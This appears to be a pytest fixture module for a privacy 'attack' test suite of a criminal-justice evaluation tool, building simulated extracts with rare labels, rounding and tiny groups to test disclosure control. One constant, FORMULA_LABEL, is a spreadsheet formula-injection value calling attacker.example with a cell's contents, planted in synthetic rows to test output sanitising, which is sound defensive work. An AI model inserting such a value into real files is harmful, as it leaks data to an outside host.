"""Runs attacked by the suite: every command once per data set (session-scoped).

* the shipped sample with its shipped config (``report``): the session's sample report of
  ``tests/conftest.py`` (the same command, also with the PDF; the attacks read its files);
* a small extract (1,200 simulated persons, about 400 in the cohort, a custody group of about 80):
  rare jurisdiction labels (a name and street address held by 3 people, a hamlet by 2), a
  jurisdiction label that is a spreadsheet formula (held by 120 people, so it is published), and
  quarantine mode with 2 broken person rows (``validate``, ``cohort``, ``report``,
  ``unodc-export``);
* the same extract with ``rounding_base = 5`` (``report``);
* one year of the extract (about 80 alternatives and 33 custody cases, decision rules relaxed so
  that every table is published): tiny groups (``report``).

Each fixture returns the output folder; the attacks read only the files.
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from tests.attack._attacks import Context

RARE_LABELS = ("Smith, 12 High Street", "hamlet")
FORMULA_LABEL = '=HYPERLINK("http://attacker.example/?x="&A1)'
#: exit codes a command may end with after writing its outputs (3: the design gate withheld effects)
WRITTEN = (0, 3)


def _config(folder: Path, base: int, tiny: bool = False) -> Path:
    path = folder / (f"evaluation_base{base}.toml" if not tiny else "evaluation_tiny.toml")
    period = ("2021-01-01", "2021-12-31") if tiny else ("2017-01-01", "2022-12-31")
    # Overlap weights (ATE) keep the variance finite with a custody group of 20 to 80, and the
    # design gate accepts a small effective sample: the attacks need the effect tables published
    # (the gate itself is tested in tests/evaluation). tiny: one year of decisions (about 80
    # alternatives, 33 custody), decision rules relaxed so that every table is published.
    # With rounding the design is IPW for the ATT: the alternative group's rate is then the observed
    # one, recomputed from the rounded counts, and its contrasts are the ones that could undo rounding.
    design = '"ipw"\nestimand = "ATT"' if base else '"overlap"\nestimand = "ATE"'
    rules = (f"[design]\nmethod = {design}\nmin_ess = 10\nmax_weight_share = 0.25\n"
             "balance_threshold = 0.25\n")
    if base or tiny:
        # (M, #17) under multiple imputation the gate and every result (subgroups too) must hold in every
        # imputed data set, none dropped; on these small extracts some imputed substances separate the
        # groups, so the rounded and tiny runs keep everyone with the missing-indicator rule (the run
        # with base 0 keeps multiple imputation, and its missing-data tables are attacked)
        rules += 'missing = "indicator"\n'
    else:
        # the run with base 0 imputes m = 5 data sets, not the default 20 (issue #14: 8.8 s -> 5.0 s of
        # CPU for its report): the same tables are written, with the same hidden cells except the
        # per-imputation rows (5 instead of 20), and every imputation path of the run is taken
        # (subgroups are pooled over the first 5 imputations whatever m is)
        rules += "imputations = 5\n"
    if tiny:
        rules += ("[decision_rules]\nmin_treated = 20\nmin_control = 10\nmin_expected = 1\n"
                  "min_treated_reoffenders = 5\n")
    path.write_text(f"""[data]
path = "data"
mode = "quarantine"
[report]
title = "attack extract"
headline_horizon = 365
pdf = false
[cohort]
period_start = {period[0]}
period_end = {period[1]}
[outcomes]
subgroups = ["disposition", "substance"]
{rules}[disclosure]
threshold = 10
rounding_base = {base}
[costs.analysis]
n_boot = 50
n_draws = 1000
[run]
seed = 1
n_jobs = 1
""", encoding="utf-8")
    return path


@pytest.fixture(scope="session")
def extract(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small extract, post-processed (see the module docstring)."""
    from altmeasures_eval.synth import simulate, write_synthetic

    root = tmp_path_factory.mktemp("attack-extract")
    folder = write_synthetic(simulate(n_persons=1_200, seed=7), root / "data")
    persons = pd.read_csv(folder / "persons.csv", dtype=str, keep_default_na=False)
    rng = np.random.default_rng(3)
    idx = rng.choice(len(persons), 125, replace=False)
    persons.loc[idx[:3], "jurisdiction"] = RARE_LABELS[0]
    persons.loc[idx[3:5], "jurisdiction"] = RARE_LABELS[1]
    persons.loc[idx[5:125], "jurisdiction"] = FORMULA_LABEL
    broken = persons.iloc[:2].copy()  # two rows that break the contract: quarantined
    broken["person_id"] = ["broken-1", "broken-2"]
    broken["sex"] = "not-a-sex"
    pd.concat([persons, broken]).to_csv(folder / "persons.csv", index=False)
    return root


def _run(args: list[str]) -> int:
    from altmeasures_eval.cli import main

    return main(args)


@pytest.fixture(scope="session")
def extract_runs(extract: Path) -> dict[str, Path]:
    """validate, cohort, report and unodc-export on the extract (no rounding)."""
    cfg = _config(extract, 0)
    outs = {name: extract / f"out-{name}" for name in ("validate", "cohort", "report", "unodc")}
    assert _run(["validate", str(extract / "data"), "--mode", "quarantine", "--out", str(outs["validate"])]) in (0, 1)
    assert _run(["cohort", "--config", str(cfg), "--out", str(outs["cohort"])]) in WRITTEN
    assert _run(["report", "--config", str(cfg), "--out", str(outs["report"]), "--quiet", "--no-pdf"]) in WRITTEN
    assert _run(["unodc-export", "--config", str(cfg), "--out", str(outs["unodc"]), "--quiet"]) in WRITTEN
    return outs


@pytest.fixture(scope="session")
def rounded_report(extract: Path) -> Path:
    out = extract / "out-report-base5"
    assert _run(["report", "--config", str(_config(extract, 5)), "--out", str(out), "--quiet", "--no-pdf"]) in WRITTEN
    return out


@pytest.fixture(scope="session")
def tiny_report(extract: Path) -> Path:
    out = extract / "out-report-tiny"
    assert _run(["report", "--config", str(_config(extract, 0, tiny=True)), "--out", str(out), "--quiet",
                 "--no-pdf"]) in WRITTEN
    return out


@pytest.fixture(scope="session")
def context() -> Context:
    return Context(threshold=10, rounding_base=0, rare_labels=RARE_LABELS)
